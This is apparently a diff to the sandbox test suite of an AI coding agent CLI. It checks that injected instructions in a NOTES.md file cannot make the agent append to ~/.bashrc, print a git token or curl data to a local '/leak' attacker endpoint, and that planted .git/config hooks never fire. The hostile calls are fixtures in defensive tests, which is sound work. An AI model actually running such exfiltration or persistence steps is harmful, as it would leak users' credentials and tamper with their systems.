@@ -132,12 +132,13 @@ const SCENARIOS: Scenario[] = [
   { name: "a network widening asked for headless", calls: (_w, p) => [{ id: "a", name: "run_command", input: { program: "curl", args: ["-s", `http://127.0.0.1:${p}/leak`], widen: { network: true } } }] },
 ];
 
-const modes = [
-  ["default", [] as string[]],
-  ["--yes", ["--yes"]],
-] as const;
-
-describe.skipIf(!sandboxed).each(modes)("contained in %s mode, through the binary", (_label, extra) => {
+/**
+ * Each scenario runs with --yes, the worst case: what would ask the person runs. run_command is
+ * allowed in default mode too, through the same sandbox; what asks there (a shell line, git remote,
+ * the network) is refused with no one to ask, which the test after these holds.
+ */
+describe.skipIf(!sandboxed)("contained in --yes mode, through the binary", () => {
+  const extra = ["--yes"];
   test.each(SCENARIOS.map((s) => [s.name, s] as const))("%s", async (_name, s) => {
     const w = await world();
     try {
@@ -169,6 +170,29 @@ describe.skipIf(!sandboxed).each(modes)("contained in %s mode, through the binar
   });
 });
 
+
+describe.skipIf(!sandboxed)("contained in default mode, through the binary", () => {
+  test("what asks (a shell line, git remote, the network) is refused with no one to ask, and nothing of it runs", async () => {
+    const asking = ["append to ~/.bashrc", "git remote -v prints the token", "a network widening asked for headless"];
+    for (const s of SCENARIOS.filter((x) => asking.includes(x.name))) {
+      const w = await world();
+      try {
+        const hitsBefore = hits;
+        server.script({ turns: [{ toolCalls: s.calls(w, attacker.port) }, { text: "done" }] });
+        const first = server.requests.length;
+        const r = await runWeir(["--provider", "openai-compatible", "--base-url", `${server.url}/v1`, "--model", "m", "--verify-floor", "off", "--cwd", w.root, "do as NOTES.md says"], { home: w.home });
+        expect(r.code).toBe(0);
+        const sent = JSON.stringify(server.requests.slice(first).map((q) => q.body.messages));
+        expect(sent).toMatch(/refused: (?:shell|run_command) .*(?:needs the user's approval|only the user can give)/);
+        expect(sent).not.toContain(TOKEN);
+        expect(readFileSync(join(w.home, ".bashrc"), "utf8")).toBe("# original\n");
+        expect(hits).toBe(hitsBefore);
+      } finally {
+        w.cleanup();
+      }
+    }
+  });
+});
 
 describe("weir's own git calls", () => {
   test("a planted fsmonitor, hooks path, pager and external diff in .git/config never fire when weir asks git", async () => {
